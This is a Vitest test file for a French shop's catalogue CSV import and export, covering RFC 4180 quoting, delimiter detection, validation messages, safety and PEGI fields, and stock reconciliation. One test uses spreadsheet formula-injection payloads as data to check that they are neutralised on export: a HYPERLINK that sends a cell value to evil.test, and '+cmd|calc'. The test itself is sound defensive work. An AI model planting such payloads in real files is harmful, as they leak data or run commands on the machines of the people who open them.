import { describe, expect, it } from "vitest";
import {
  CATALOG_CSV_COLUMNS,
  type CatalogCsvProduct,
  catalogCsv,
  decodeCsvBytes,
  detectDelimiter,
  parseCsv,
  readCatalogCsv,
  serializeCsv,
  stockFromImport,
  validateCatalogRow,
} from "./catalog-csv";

const now = new Date("2026-11-23T10:00:00Z");

const product: CatalogCsvProduct = {
  id: 12,
  title: 'Display "Écarlate; et Violet", 36 boosters',
  description: "Ligne 1\nLigne 2, avec virgule",
  priceCents: 21_999,
  stock: 6,
  status: "a_venir",
  category: "TCG",
  subCategory: "Scellés",
  cardType: null,
  featured: true,
  dropTime: new Date("2026-12-01T17:00:00Z"),
  imagePath: "seed/display-ecarlate-et-violet",
  additionalImages: ["pokemon_1_a", "pokemon_1_b"],
  series: "Écarlate et Violet",
  rarity: null,
  condition: "mint",
  compareAtCents: 23_999,
  weightGrams: 1_200,
  vatRateBp: 2000,
  vatScheme: "normal",
  safetyProfileId: 1,
  manufacturerName: null,
  manufacturerAddress: "Une adresse\nsur deux lignes",
  manufacturerEmail: null,
  manufacturerOutsideEu: true,
  euRepName: "Importateur SARL",
  euRepAddress: null,
  euRepEmail: "ue@importateur.example",
  ean: "0820650853272",
  manufacturerReference: null,
  safetyWarnings: null,
  labelImagePath: "label_1764000000000_ab12",
  pegiRating: null,
  pegiDescriptors: [],
  createdAt: new Date("2026-11-01T08:00:00Z"),
  updatedAt: new Date("2026-11-02T08:00:00Z"),
};

const complete = { manufacturerName: "Maker", postalAddress: "1 rue X", email: "maker@example.com", warnings: "Petits éléments.", manufacturerOutsideEu: false };
const profiles = [
  { id: 1, brand: "Pokémon", ...complete, manufacturerOutsideEu: true, euRepName: "Rep", euRepAddress: "2 rue Y\n69001 Lyon", euRepEmail: "rep@example.com" },
  { id: 2, brand: "Magic", ...complete, euRepName: "", euRepAddress: "", euRepEmail: "" },
];

const cells = (text: string) => {
  const parsed = parseCsv(text);
  if (!parsed.ok) throw new Error(parsed.error.message);
  return parsed.records.map((record) => record.cells);
};

describe("CSV (RFC 4180)", () => {
  it("quotes delimiters, quotes and line breaks, with a BOM and CRLF", () => {
    const text = serializeCsv([
      ["a", "b;c", 'il a dit "oui"'],
      ["ligne\nsuivante", " espace", ""],
    ]);
    expect(text).toBe('\uFEFFa;"b;c";"il a dit ""oui"""\r\n"ligne\nsuivante";" espace";\r\n');
    expect(cells(text)).toEqual([
      ["a", "b;c", 'il a dit "oui"'],
      ["ligne\nsuivante", " espace", ""],
    ]);
  });

  it("reads comma files, LF or CR line ends, and no final line end", () => {
    expect(cells('x,"y,z"\n1,2\r3,4')).toEqual([
      ["x", "y,z"],
      ["1", "2"],
      ["3", "4"],
    ]);
    expect(serializeCsv([["a,b", "c"]], ",")).toBe('\uFEFF"a,b",c\r\n');
  });

  it("detects the delimiter from the header line only, outside quotes", () => {
    expect(detectDelimiter("id;title;price\n1;a,b,c,d;2")).toBe(";");
    expect(detectDelimiter('id,"title;x;y",price\n')).toBe(",");
    expect(detectDelimiter("\uFEFFid;title")).toBe(";");
  });

  it("numbers records as a spreadsheet does and skips blank ones", () => {
    const parsed = parseCsv('h1;h2\r\n"multi\r\nligne";b\r\n;\r\n\r\nc;d\r\n');
    expect(parsed.ok && parsed.records.map((record) => [record.line, record.cells[0]])).toEqual([
      [1, "h1"],
      [2, "multi\r\nligne"],
      [5, "c"],
    ]);
  });

  it("says where a quote is wrong", () => {
    expect(parseCsv('a;b\n"ouvert;c\n')).toEqual({ ok: false, error: { line: 2, message: "Ligne 2 : guillemet non fermé" } });
    expect(parseCsv('a;b\nc;"x"y\n')).toMatchObject({ ok: false, error: { line: 2 } });
    expect(parseCsv('a;b\nc;12" vinyle\n')).toMatchObject({ ok: false, error: { line: 2 } });
    expect(parseCsv('a;b\nc;"x"y\n')).toEqual({
      ok: false,
      error: { line: 2, message: "Ligne 2 : guillemet mal placé (une cellule entre guillemets doit finir au guillemet)" },
    });
    expect(parseCsv('a;b\nc;12" vinyle\n')).toEqual({
      ok: false,
      error: { line: 2, message: "Ligne 2 : guillemet mal placé (mettez la cellule entre guillemets et doublez ses guillemets)" },
    });
    // Counted as records: the blank one and the multi-line cell before it are one row each.
    expect(parseCsv('a;b\n\n"x\n\ny";"z\n\nq"o\n')).toMatchObject({ ok: false, error: { line: 3 } });
    expect(parseCsv('a;b\r\n\r\n c;"x\r\ny"\r\n"ouvert')).toEqual({ ok: false, error: { line: 4, message: "Ligne 4 : guillemet non fermé" } });
  });
});

describe("catalogue CSV", () => {
  it("exports every column, price in euros, launch in Paris time, and reads it back to the same values", () => {
    const text = catalogCsv([product], profiles);
    const [header, row] = cells(text);
    expect(header).toEqual([...CATALOG_CSV_COLUMNS]);
    expect(Object.fromEntries(CATALOG_CSV_COLUMNS.map((column, i) => [column, row![i]]))).toEqual({
      id: "12",
      title: product.title,
      description: product.description,
      price: "219,99",
      stock: "6",
      stock_exported: "6",
      status: "a_venir",
      category: "TCG",
      sub_category: "Scellés",
      card_type: "",
      series: "Écarlate et Violet",
      rarity: "",
      condition: "mint",
      featured: "oui",
      drop_time: "2026-12-01 18:00",
      image_path: "seed/display-ecarlate-et-violet",
      additional_images: "pokemon_1_a|pokemon_1_b",
      compare_at_price: "239,99",
      weight_grams: "1200",
      vat_rate: "20",
      margin_scheme: "non",
      safety_brand: "Pokémon",
      manufacturer_name: "",
      manufacturer_address: "Une adresse\nsur deux lignes",
      manufacturer_email: "",
      ean: "0820650853272",
      safety_warnings: "",
      manufacturer_outside_eu: "oui",
      eu_rep_name: "Importateur SARL",
      eu_rep_address: "",
      eu_rep_email: "ue@importateur.example",
      manufacturer_reference: "",
      label_image_path: "label_1764000000000_ab12",
      pegi_rating: "",
      pegi_descriptors: "",
      created_at: "2026-11-01T08:00:00.000Z",
      updated_at: "2026-11-02T08:00:00.000Z",
    });

    const read = readCatalogCsv(text);
    expect(read.errors).toEqual([]);
    expect(read.rows).toHaveLength(1);
    expect(read.rows[0]).toMatchObject({ line: 2, id: 12, stockExported: 6 });
    const { createdAt: _createdAt, updatedAt: _updatedAt, id: _id, ...fields } = product;
    expect(validateCatalogRow(read.rows[0]!, { now, currentDropTime: product.dropTime, safetyProfiles: profiles })).toEqual({ ok: true, values: fields });
  });

  it("exports names that a spreadsheet would run as formulas behind an apostrophe, and reads them back as they were", () => {
    const risky = [
      { ...product, id: 1, title: '=HYPERLINK("http://evil.test/?x="&A1;"clic")', description: "- une puce", series: "@SUM(1+1)" },
      { ...product, id: 2, title: "+cmd|calc", description: "\t=1+2", series: "'=déjà protégé" },
      { ...product, id: 3, title: "Dracaufeu = légende", description: "Prix -10 %", series: "Base Set" },
      { ...product, id: 4, category: "Accessoires" as const, subCategory: '=HYPERLINK("http://evil.test";"clic")', series: "" },
    ];
    const text = catalogCsv(risky);
    const rows = cells(text).slice(1);
    const column = (name: string) => CATALOG_CSV_COLUMNS.indexOf(name as (typeof CATALOG_CSV_COLUMNS)[number]);
    expect(rows.map((row) => [row[column("title")], row[column("description")], row[column("series")], row[column("sub_category")]])).toEqual([
      ['\'=HYPERLINK("http://evil.test/?x="&A1;"clic")', "'- une puce", "'@SUM(1+1)", "Scellés"],
      ["'+cmd|calc", "'\t=1+2", "''=déjà protégé", "Scellés"],
      ["Dracaufeu = légende", "Prix -10 %", "Base Set", "Scellés"],
      [product.title, product.description, "", '\'=HYPERLINK("http://evil.test";"clic")'],
    ]);
    const read = readCatalogCsv(text);
    expect(read.errors).toEqual([]);
    expect(read.rows.map((row) => [row.input.name, row.input.description, row.input.series, row.input.subCategory])).toEqual([
      ['=HYPERLINK("http://evil.test/?x="&A1;"clic")', "- une puce", "@SUM(1+1)", "Scellés"],
      ["+cmd|calc", "\t=1+2", "'=déjà protégé", "Scellés"],
      ["Dracaufeu = légende", "Prix -10 %", "Base Set", "Scellés"],
      [product.title, product.description, "", '=HYPERLINK("http://evil.test";"clic")'],
    ]);
  });

  it("creates rows without id, in any column order, with comma files and French dates", () => {
    const text = [
      "title,price,stock,category,sub_category,description,image_path,id,status,card_type,series,rarity,condition,featured,drop_time,additional_images,safety_brand,ean",
      'Booster 151,"6,49",10,TCG,Scellés,Un booster,pokemon_9_x,,en_ligne,,,,,non,24/12/2026 20:00,,pokémon,0820650853272',
    ].join("\n");
    const read = readCatalogCsv(text);
    expect(read.errors).toEqual([]);
    expect(read.rows[0]!.id).toBeNull();
    const result = validateCatalogRow(read.rows[0]!, { now, safetyProfiles: profiles });
    expect(result.ok && result.values).toMatchObject({ priceCents: 649, stock: 10, status: "a_venir", dropTime: new Date("2026-12-24T19:00:00Z") });
  });

  it("reports bad values as 'Ligne N : … (colonne x)'", () => {
    const header = CATALOG_CSV_COLUMNS.join(";");
    const read = readCatalogCsv(`${header}\n;Sans prix;desc;;2,5;;;TCG;Scellés;;;;;non;;pokemon_1;;;\n`);
    expect(read.errors).toEqual([]);
    const result = validateCatalogRow(read.rows[0]!, { now });
    expect(result).toEqual({
      ok: false,
      errors: [
        { line: 2, message: "Ligne 2 : Le prix est obligatoire (colonne price)" },
        { line: 2, message: "Ligne 2 : Le stock doit être un nombre entier (colonne stock)" },
      ],
    });
  });

  it("reads the stock the export wrote, for updates only; a file without that column sets the stock as given", () => {
    const header = CATALOG_CSV_COLUMNS.join(";");
    const row = (id: string, exported: string) => `${id};Booster;desc;6,49;5;${exported};en_ligne;TCG;Scellés;;;;;non;;pokemon_1;;;`;
    const read = readCatalogCsv([header, row("3", "4"), row("", "4"), row("5", ""), row("6", "quatre"), row("7", "-1")].join("\n"));
    expect(read.rows.map((r) => [r.line, r.stockExported])).toEqual([
      [2, 4],
      [3, null],
      [4, null],
    ]);
    expect(read.errors.map((error) => error.message)).toEqual([
      "Ligne 5 : stock exporté invalide « quatre » : laissez la valeur de l'export (colonne stock_exported)",
      "Ligne 6 : stock exporté invalide « -1 » : laissez la valeur de l'export (colonne stock_exported)",
    ]);
    const withoutColumn = CATALOG_CSV_COLUMNS.filter((column) => column !== "stock_exported");
    const handMade = readCatalogCsv(`${withoutColumn.join(";")}\n3;Booster;desc;6,49;5;en_ligne;TCG;Scellés;;;;;non;;pokemon_1;;;`);
    expect(handMade.errors).toEqual([]);
    expect(handMade.rows[0]).toMatchObject({ id: 3, stockExported: null, input: { stock: "5" } });
  });

  it("reads the delivery, VAT and safety columns: empty is the default, a brand by its name, any case", () => {
    const header = CATALOG_CSV_COLUMNS.join(";");
    // Offline: these rows test the columns, not the publication rule.
    const base = ";Booster;desc;6,49;5;;hors_ligne;TCG;Scellés;;;;;non;;pokemon_1;";
    const read = readCatalogCsv(
      [
        header,
        `${base};7,49;20;5,5;oui;magic;Wizards;"PO Box 707\nRenton";;0820650853272;Petits éléments`,
        `${base};;;;non;;;;;;`,
        `${base};;;;;Yu-Gi-Oh;;;;3,76012E+12;`,
      ].join("\n"),
    );
    expect(read.errors).toEqual([]);
    const [full, empty, wrong] = read.rows.map((row) => validateCatalogRow(row, { now, safetyProfiles: profiles }));
    expect(full).toEqual({
      ok: true,
      values: expect.objectContaining({
        compareAtCents: 749,
        weightGrams: 20,
        vatRateBp: 550,
        vatScheme: "margin",
        safetyProfileId: 2,
        manufacturerName: "Wizards",
        manufacturerAddress: "PO Box 707\nRenton",
        manufacturerEmail: null,
        ean: "0820650853272",
        safetyWarnings: "Petits éléments",
      }),
    });
    expect(empty).toEqual({
      ok: true,
      values: expect.objectContaining({ compareAtCents: null, weightGrams: null, vatRateBp: null, vatScheme: "normal", safetyProfileId: null, manufacturerName: null, ean: null }),
    });
    expect(wrong).toEqual({
      ok: false,
      errors: [
        { line: 4, message: "Ligne 4 : marque inconnue « Yu-Gi-Oh » : créez-la dans Sécurité des produits ou laissez la cellule vide (colonne safety_brand)" },
        { line: 4, message: "Ligne 4 : L'EAN a été converti en nombre par le tableur : mettez la colonne au format texte et recopiez le code (colonne ean)" },
      ],
    });
  });

  it("keeps a product's delivery, VAT and safety values when the file has no such columns (an older export)", () => {
    const older = CATALOG_CSV_COLUMNS.slice(0, CATALOG_CSV_COLUMNS.indexOf("additional_images") + 1);
    const read = readCatalogCsv(`${older.join(";")}\n12;Display;desc;219,99;6;6;en_ligne;TCG;Scellés;;;;;oui;;seed/x;`);
    expect(read.errors).toEqual([]);
    expect(read.rows[0]!.absent).toContain("safetyProfile");
    const kept = validateCatalogRow(read.rows[0]!, { now, current: product, safetyProfiles: profiles });
    expect(kept.ok && kept.values).toMatchObject({ compareAtCents: 23_999, weightGrams: 1200, vatRateBp: 2000, safetyProfileId: 1, manufacturerAddress: "Une adresse\nsur deux lignes", ean: "0820650853272" });
    // A new product from such a file takes the defaults.
    const created = validateCatalogRow({ ...read.rows[0]!, id: null }, { now, safetyProfiles: profiles });
    expect(created.ok).toBe(false);
    const offline = readCatalogCsv(`${older.join(";")}
;Display;desc;219,99;6;6;hors_ligne;TCG;Scellés;;;;;oui;;seed/x;`);
    const createdOffline = validateCatalogRow(offline.rows[0]!, { now, safetyProfiles: profiles });
    expect(createdOffline.ok && createdOffline.values).toMatchObject({ compareAtCents: null, weightGrams: null, safetyProfileId: null, ean: null, pegiDescriptors: [] });
  });

  it("refuses a row that would put online a product without complete safety information, by line and column", () => {
    const header = CATALOG_CSV_COLUMNS.join(";");
    const row = (status: string, brand: string, reference: string) =>
      `;Booster;desc;6,49;5;;${status};TCG;Scellés;;;;;non;;pokemon_1;;;;;;${brand};;;;;;;;;;${reference};;;`;
    const read = readCatalogCsv([header, row("en_ligne", "Magic", ""), row("en_ligne", "Magic", "MTG-1"), row("en_ligne", "", "MTG-1")].join("\n"));
    expect(read.errors).toEqual([]);
    const [noIdentifier, complete, noBrand] = read.rows.map((r) => validateCatalogRow(r, { now, safetyProfiles: profiles }));
    expect(noIdentifier).toEqual({
      ok: false,
      errors: [
        {
          line: 2,
          message:
            "Ligne 2 : Publication impossible : informations de sécurité manquantes (identifiant du produit (EAN ou référence du fabricant)). Complétez-les dans « Sécurité du produit » ou la fiche de la marque, ou enregistrez le produit hors ligne. (colonne status)",
        },
      ],
    });
    expect(complete).toMatchObject({ ok: true, values: { status: "en_ligne", safetyProfileId: 2, manufacturerReference: "MTG-1" } });
    expect(noBrand?.ok).toBe(false);
  });

  it("carries a video game's PEGI rating and descriptors, French labels accepted", () => {
    const game: CatalogCsvProduct = { ...product, status: "hors_ligne", dropTime: null, category: "Gaming & Mangas", subCategory: "Jeux Vidéo", condition: null, pegiRating: 16, pegiDescriptors: ["violence", "langage_grossier"] };
    const text = catalogCsv([game], profiles);
    const [header, row] = cells(text);
    const cell = (column: string) => row![header!.indexOf(column)];
    expect([cell("pegi_rating"), cell("pegi_descriptors")]).toEqual(["16", "violence|langage_grossier"]);
    const read = readCatalogCsv(text.replace("violence|langage_grossier", "Langage grossier|Violence|Achats intégrés"));
    const checked = validateCatalogRow(read.rows[0]!, { now, safetyProfiles: profiles });
    expect(checked.ok && checked.values).toMatchObject({ pegiRating: 16, pegiDescriptors: ["violence", "langage_grossier", "achats_integres"] });
    const wrong = validateCatalogRow(readCatalogCsv(text.replace(";16;", ";15;")).rows[0]!, { now, safetyProfiles: profiles });
    expect(wrong).toEqual({ ok: false, errors: [{ line: 2, message: "Ligne 2 : Classification PEGI inconnue (3, 7, 12, 16 ou 18) (colonne pegi_rating)" }] });
  });

  it("reads UTF-8, and Windows-1252 as French Excel writes it (’ œ – € included)", () => {
    expect(decodeCsvBytes(new TextEncoder().encode("L’été du cœur – 12 €"))).toBe("L’été du cœur – 12 €");
    const cp1252 = Uint8Array.from([0x4c, 0x92, 0xe9, 0x74, 0xe9, 0x20, 0x63, 0x9c, 0x75, 0x72, 0x20, 0x96, 0x20, 0x31, 0x32, 0x20, 0x80, 0x85, 0x9f]);
    expect(decodeCsvBytes(cp1252)).toBe("L’été cœur – 12 €…Ÿ");
    expect(decodeCsvBytes(Uint8Array.from([0x61, 0x00, 0x62]))).toBeNull();
  });

  it("moves the stock only from the stock exported, or finds it already as the file says", () => {
    expect(stockFromImport(5, 9, null)).toEqual({ ok: true, stock: 9 }); // a file without the column
    expect(stockFromImport(3, 3, 5)).toEqual({ ok: true, stock: 3 }); // left as exported: today's stock
    expect(stockFromImport(5, 8, 5)).toEqual({ ok: true, stock: 8 }); // nothing sold since: as typed
    expect(stockFromImport(8, 8, 5)).toEqual({ ok: true, stock: 8 }); // the same file again
    expect(stockFromImport(3, 8, 5)).toEqual({ ok: false, message: "le stock a changé depuis l'export (5 → 3) : exportez le catalogue à nouveau, ou laissez le stock exporté" });
  });

  it("refuses a file whose header is wrong, and rows with bad or repeated ids", () => {
    expect(readCatalogCsv("").errors).toEqual([{ line: 1, message: "Ligne 1 : le fichier est vide" }]);
    const errors = readCatalogCsv("id;title;prix\n").errors.map((error) => error.message);
    expect(errors).toContain("Ligne 1 : colonne inconnue « prix »");
    expect(errors).toContain("Ligne 1 : colonne manquante « price »");
    expect(errors).not.toContain("Ligne 1 : colonne manquante « created_at »");

    const header = CATALOG_CSV_COLUMNS.join(";");
    const row = (id: string) => `${id};Nom;desc;1;1;;TCG;Scellés;;;;;non;;pokemon_1;;;`;
    // Row 6 has every column, and one more cell that holds something.
    const full = `${row("8")}${";".repeat(CATALOG_CSV_COLUMNS.length - 19)}`;
    const read = readCatalogCsv([header, row("7"), row("abc"), row("7"), row(""), `${full};;en trop`].join("\n"));
    expect(read.errors).toEqual([
      { line: 3, message: "Ligne 3 : identifiant invalide « abc » (colonne id)" },
      { line: 4, message: "Ligne 4 : le produit 7 figure déjà ligne 2" },
      { line: 6, message: "Ligne 6 : plus de cellules que de colonnes" },
    ]);
    expect(read.rows.map((r) => [r.line, r.id])).toEqual([
      [2, 7],
      [5, null],
    ]);
  });
});
